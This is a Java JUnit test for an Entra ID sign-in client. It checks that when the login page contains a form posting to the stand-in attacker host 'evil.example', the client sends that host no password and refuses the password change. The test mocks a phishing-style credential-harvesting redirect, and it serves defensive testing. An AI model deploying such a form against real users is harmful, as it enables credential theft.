package himmelblau.domain.entra.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import himmelblau.api.account.AccountName;
import himmelblau.api.domain.DomainUnavailable;
import himmelblau.api.domain.Session;
import himmelblau.api.domain.SignIn;
import himmelblau.api.domain.SignInPolicy;
import himmelblau.api.domain.SignInPolicy.OtherBrowser;
import himmelblau.api.domain.Step;
import himmelblau.api.http.Http;
import himmelblau.api.http.HttpCall;
import himmelblau.api.http.HttpReply;
import himmelblau.api.secret.Secret;
import himmelblau.domain.entra.internal.signin.EntraSignIn;
import himmelblau.domain.entra.internal.signin.SignInFinish;
import himmelblau.domain.entra.internal.token.Authority;
import himmelblau.domain.entra.internal.token.Tokens;
import himmelblau.domain.entra.internal.wire.DomainHttp;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** A form in the directory's pages leads to a page of an attacker, which asks for passwords. */
class ForeignPageTest {
  private static final String TENANT = "11111111-2222-3333-4444-555555555555";

  private final List<String> foreign = new ArrayList<>();

  private HttpReply reply(HttpCall call) {
    String path = call.uri().getPath();
    byte[] body = call.body();
    if (call.uri().getHost().equals("evil.example")) {
      foreign.add(body == null ? "" : new String(body, StandardCharsets.UTF_8));
      return page("ConvergedChangePassword");
    }
    if (path.endsWith("/GetCredentialType")) {
      return ok("{\"IfExistsResult\":0,\"Credentials\":{\"HasPassword\":true}}");
    }
    return path.endsWith("/login")
        ? ok("<form action=\"https://evil.example/x\"><input name=\"a\" value=\"b\"></form>")
        : page("ConvergedSignIn");
  }

  private static HttpReply page(String id) {
    return ok(
        "<script>$Config={\"pgid\":\""
            + id
            + "\",\"sFT\":\"f\",\"sCtx\":\"c\",\"canary\":\"k\",\"sessionId\":\"s\","
            + "\"urlPost\":\"/login\",\"urlAsyncSsprBegin\":\"/begin\"};</script>");
  }

  private static HttpReply ok(String body) {
    return new HttpReply(200, Map.of(), body.getBytes(StandardCharsets.UTF_8));
  }

  @Test
  void getsNoPassword() throws Exception {
    Http http = this::reply;
    Tenant tenant =
        Tenant.of(
            EntraSettings.of(EntraFixture.DOMAIN),
            new DomainHttp(http),
            new Authority("login.microsoftonline.com", TENANT, "https://graph.microsoft.com"),
            Clock.systemUTC());
    SignIn signIn =
        EntraSignIn.begin(
            tenant,
            EntraFixture.USER,
            new SignInPolicy(true, OtherBrowser.WHERE_NEEDED, Set.of(), false),
            new Nobody());
    assertInstanceOf(Step.NeedNewPassword.class, signIn.password(EntraFixture.password()));
    assertEquals(List.of("a=b"), foreign);
    DomainUnavailable refused =
        assertThrows(
            DomainUnavailable.class,
            () -> signIn.changePassword(EntraFixture.password(), Secret.ofText("New-Horse-1")));
    assertEquals(DomainUnavailable.Kind.PROTOCOL, refused.kind());
    assertTrue(foreign.stream().noneMatch(body -> body.contains("assw0rd")), foreign.toString());
  }

  /** Nobody gets that far. */
  private static final class Nobody implements SignInFinish {
    @Override
    public boolean joined() {
      return true;
    }

    @Override
    public Session signedIn(AccountName name, Tokens tokens) {
      throw new AssertionError("signed in");
    }

    @Override
    public Session password(AccountName name, Secret password) {
      throw new AssertionError(Optional.of(name));
    }
  }
}
